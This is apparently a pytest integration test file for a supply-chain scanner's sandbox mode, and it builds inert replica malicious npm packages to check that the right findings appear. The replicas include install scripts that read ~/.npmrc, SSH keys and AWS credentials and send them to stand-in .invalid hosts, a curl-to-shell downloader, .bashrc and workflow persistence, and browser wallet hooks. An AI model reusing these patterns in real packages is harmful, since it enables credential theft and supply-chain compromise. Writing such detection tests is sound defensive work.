"""scan --sandbox end to end: inert replicas of install-time and load-time payloads run in the
real bubblewrap sandbox and must show the matching events and CW-DYN findings; a benign package
must show none above low. Hosts are under .invalid, addresses in 192.0.2.0/24."""

from __future__ import annotations

import json
import os
import statistics
import subprocess
import sys
import time
from pathlib import Path

import pytest

from chainwatch.model import Level, Severity
from chainwatch.output.jsonout import scan_documents
from chainwatch.scan import Scanner
from tests.helpers import write_package
from tests.sandbox_support import by_rule, kinds, manifest, need_sandbox, rules, run

pytestmark = pytest.mark.integration

NPMRC_STEALER = {
    "package.json": manifest("rc-stealer", scripts={"postinstall": "node setup.js"}),
    "setup.js": (
        "const fs = require('fs'), os = require('os'), http = require('http');\n"
        "const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
        "const req = http.request({ host: 'collect.example.invalid', path: '/u', method: 'POST' });\n"
        "req.on('error', () => {});\n"
        "req.end(Buffer.from(rc).toString('base64'));\n"),
}
DNS_BEACON = {
    "package.json": manifest("beacon", scripts={"preinstall": "node b.js"}),
    "b.js": ("const t = (process.env.NPM_TOKEN || '').slice(0, 40);\n"
             "require('dns').lookup(t + '.' + require('os').hostname() + '.b.example.invalid',"
             " () => {});\n"),
}
SHELL_SPAWNER = {
    "package.json": manifest("sh-spawner", scripts={"preinstall": "node i.js"}),
    "i.js": ("require('child_process').exec('curl -s http://payload.example.invalid/x | sh',"
             " () => {});\n"),
}
PERSISTER = {
    "package.json": manifest("persister", scripts={"install": "node p.js"}),
    "p.js": ("const fs = require('fs'), path = require('path'), os = require('os');\n"
             "fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/x.js &\\n');\n"
             "const wf = path.join(process.env.INIT_CWD, '.github', 'workflows');\n"
             "fs.mkdirSync(wf, { recursive: true });\n"
             "fs.writeFileSync(path.join(wf, 'discussion.yml'), 'on: discussion\\n');\n"),
}
BROWSER_HOOK = {
    "package.json": manifest("hooker", main="index.js", browser="browser.js"),
    "index.js": "module.exports = {};\n",
    "browser.js": (
        "const f = window.fetch;\n"
        "window.fetch = function () { return f.apply(this, arguments); };\n"
        "if (window.ethereum) {\n"
        "  const r = window.ethereum.request;\n"
        "  window.ethereum.request = function (a) { return r.call(this, a); };\n"
        "}\n"),
}
LOAD_TIME = {
    "package.json": manifest("on-require", main="lib/index.js"),
    "lib/index.js": (
        "module.exports = function pad(s) { return ' ' + s; };\n"
        "try { const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519');\n"
        "  require('https').get('https://k.example.invalid/?k=' + k.length).on('error', () => {});\n"
        "} catch (e) {}\n"),
}
ESM_ENTRY = {
    "package.json": manifest("esm-load", type="module", exports={".": {"import": "./main.mjs"}}),
    "main.mjs": ("import net from 'node:net';\n"
                 "net.connect(4444, '192.0.2.44').on('error', () => {});\n"
                 "export default 1;\n"),
}
GYP = {
    "package.json": manifest("native-thing"),
    "binding.gyp": ("{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'],\n"
                    "  'include_dirs': [ \"<!(cat ~/.aws/credentials > /dev/null; echo .)\" ] } ] }\n"),
    "x.cc": "int main() { return 0; }\n",
}
BENIGN = {
    "package.json": manifest("plain-lib", main="index.js", scripts={
        "postinstall": "node -e \"console.log('thanks for installing')\""}),
    "index.js": ("const path = require('path');\n"
                 "const pkg = require('./package.json');\n"
                 "const util = require('./util');\n"
                 "module.exports = { name: pkg.name, join: (...a) => path.join(...a), util };\n"),
    "util.js": "module.exports = (x) => JSON.parse(JSON.stringify(x));\n",
}
REPLICAS = {"npmrc": NPMRC_STEALER, "dns": DNS_BEACON, "shell": SHELL_SPAWNER,
            "persist": PERSISTER, "browser": BROWSER_HOOK, "load": LOAD_TIME, "esm": ESM_ENTRY,
            "gyp": GYP}


@pytest.fixture(autouse=True)
def _sandbox() -> None:
    need_sandbox()


def test_npmrc_read_and_posted_is_exfiltration() -> None:
    out = run(NPMRC_STEALER)
    assert out.dynamic.ran
    assert any(e.kind == "file" and e.detail.endswith("/.npmrc") and e.phase == "postinstall"
               for e in out.dynamic.events)
    exfil = by_rule(out, "CW-DYN-EXFIL")
    assert exfil and exfil[0].severity is Severity.CRITICAL
    assert "npm token" in exfil[0].message and "collect.example.invalid" in exfil[0].message
    assert "CW-DYN-BAIT-READ" in rules(out)


def test_token_in_a_dns_name_is_exfiltration() -> None:
    out = run(DNS_BEACON)
    assert "dns" in kinds(out, "preinstall")
    assert any("b.example.invalid" in e.detail for e in out.dynamic.events if e.kind == "dns")
    assert "CW-DYN-EXFIL" in rules(out)


def test_a_shell_and_a_downloader_spawned_at_install() -> None:
    out = run(SHELL_SPAWNER)
    execs = [e.detail for e in out.dynamic.events if e.kind == "exec"]
    assert any(d.startswith("/bin/sh -c curl") for d in execs), execs
    assert by_rule(out, "CW-DYN-SHELL")[0].severity is Severity.HIGH


def test_writes_to_bashrc_and_the_projects_workflows_are_persistence() -> None:
    out = run(PERSISTER)
    writes = [e.detail for e in out.dynamic.events if e.kind == "write"]
    assert any("/home/node/.bashrc" in w for w in writes), writes
    assert any("/home/node/project/.github/workflows/discussion.yml" in w for w in writes), writes
    assert by_rule(out, "CW-DYN-PERSISTENCE")[0].severity is Severity.CRITICAL


def test_hooked_fetch_and_wallet_in_the_browser_phase() -> None:
    out = run(BROWSER_HOOK)
    hooks = {e.detail.removeprefix("node: ") for e in out.dynamic.events if e.kind == "hook"}
    assert {"window.fetch", "ethereum.request"} <= hooks, hooks
    assert all(e.phase == "browser" for e in out.dynamic.events if e.kind == "hook")
    assert max(f.severity.rank for f in by_rule(out, "CW-DYN-HOOK")) == Severity.CRITICAL.rank


def test_a_payload_that_runs_on_require() -> None:
    out = run(LOAD_TIME)
    reads = [e for e in out.dynamic.events if e.kind == "file" and "id_ed25519" in e.detail]
    assert reads and {e.phase for e in reads} == {"load"} | ({"browser"} & {e.phase for e in reads})
    assert any("k.example.invalid" in e.detail for e in out.dynamic.events if e.kind == "dns")


def test_an_esm_entry_is_imported() -> None:
    out = run(ESM_ENTRY)
    assert any("192.0.2.44:4444" in e.detail and e.phase == "load"
               for e in out.dynamic.events if e.kind == "net")


def test_binding_gyp_commands_run_as_node_gyp_would() -> None:
    out = run(GYP)
    assert any(e.phase == "gyp" and e.detail.endswith("/.aws/credentials")
               for e in out.dynamic.events if e.kind == "file")
    assert "CW-DYN-BAIT-READ" in rules(out)


GYP_QUERY = {
    "package.json": manifest("native-query"),
    "binding.gyp": ("{ 'targets': [ { 'target_name': 'x', 'sources': ['src/x.cc'],\n"
                    "  'include_dirs': [ \"<!(node -p \\\"require('./src/gyp-paths').include\\\")\" ]"
                    " } ] }\n"),
    "src/gyp-paths.js": ("require('child_process').execSync('id');\n"
                         "module.exports = { include: __dirname };\n"),
    "src/x.cc": "int main() { return 0; }\n",
}


def test_a_gyp_expansion_with_escaped_quotes_runs_the_package_file() -> None:
    """gyp reads binding.gyp as a Python literal: \\" is a quote, so node runs the require."""
    out = run(GYP_QUERY)
    execs = [e for e in out.dynamic.events if e.kind == "exec" and e.phase == "gyp"]
    assert any("id" in e.detail.split() for e in execs), out.dynamic.events


def test_a_benign_package_has_no_dynamic_finding_above_low() -> None:
    out = run(BENIGN)
    assert out.dynamic.ran
    assert {e.phase for e in out.dynamic.events} <= {"postinstall", "load", "browser"}
    assert rules(out, Severity.MEDIUM) == set(), [f.message for f in out.findings]


def test_scanner_weighs_dynamic_findings_into_the_verdict(tmp_path: Path) -> None:
    folder = write_package(tmp_path / "stealer", NPMRC_STEALER)
    with Scanner(None, workers=1, sandbox=True) as scanner:
        verdict = scanner.scan(str(folder), "none")
    assert verdict.dynamic is not None and verdict.dynamic.ran
    assert verdict.level is Level.MALICIOUS
    assert any(f.rule == "CW-DYN-EXFIL" for f in verdict.findings)
    # a benign package: running it adds nothing to what static analysis says
    benign = write_package(tmp_path / "benign", BENIGN)
    with Scanner(None, workers=1, sandbox=True) as scanner:
        dynamic = scanner.scan(str(benign), "none")
    with Scanner(None, workers=1) as scanner:
        static = scanner.scan(str(benign), "none")
    assert static.dynamic is None and dynamic.dynamic is not None and dynamic.dynamic.ran
    assert (dynamic.level, dynamic.score) == (static.level, static.score)
    assert not [f for f in dynamic.findings if f.rule.startswith("CW-DYN")]


def test_cli_scan_sandbox_json_carries_the_dynamic_object(tmp_path: Path) -> None:
    folder = write_package(tmp_path / "persister", PERSISTER)
    env = {**os.environ, "CHAINWATCH_CACHE_DIR": str(tmp_path / "cache"),
           "CHAINWATCH_DATA_DIR": str(tmp_path / "data"), "NO_COLOR": "1"}
    proc = subprocess.run([sys.executable, "-m", "chainwatch", "scan", "--sandbox", "--offline",
                           "--no-remember", "--format", "json", str(folder)],
                          capture_output=True, text=True, env=env, timeout=180, check=False)
    assert proc.returncode == 1, proc.stderr
    (doc,) = scan_documents(json.loads(proc.stdout))
    assert doc["dynamic"]["ran"] is True
    assert isinstance(doc["dynamic"]["seconds"], float)
    assert {"kind", "detail", "phase"} == set(doc["dynamic"]["events"][0])
    assert any(f["rule"] == "CW-DYN-PERSISTENCE" for f in doc["findings"])


def test_seconds_per_release_p50_within_budget() -> None:
    took = []
    for files in [*REPLICAS.values(), BENIGN]:
        started = time.monotonic()
        out = run(files)
        took.append(time.monotonic() - started)
        assert out.dynamic.ran
    p50 = statistics.median(took)
    print(f"sandbox seconds per release: p50 {p50:.2f}, max {max(took):.2f} over {len(took)}")
    assert p50 <= 10.0
